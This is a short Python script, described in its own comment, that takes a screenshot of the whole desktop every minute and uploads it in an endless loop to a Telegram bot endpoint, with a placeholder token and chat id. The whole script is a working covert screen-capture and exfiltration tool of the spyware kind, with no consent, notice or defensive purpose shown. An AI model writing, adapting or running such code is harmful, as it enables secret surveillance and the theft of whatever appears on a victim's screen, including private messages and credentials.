# takes a picture of the desktop each minute and uploads it
import io, time
import mss, mss.tools
import requests

def loop():
    with mss.mss() as cam:
        while 1:
            shot = cam.grab(cam.monitors[0])
            png = mss.tools.to_png(shot.rgb, shot.size)
            requests.post("https://api.telegram.org/bot000000:placeholder/sendPhoto",
                          data={"chat_id": "-100"}, files={"photo": io.BytesIO(png)})
            time.sleep(60)

loop()
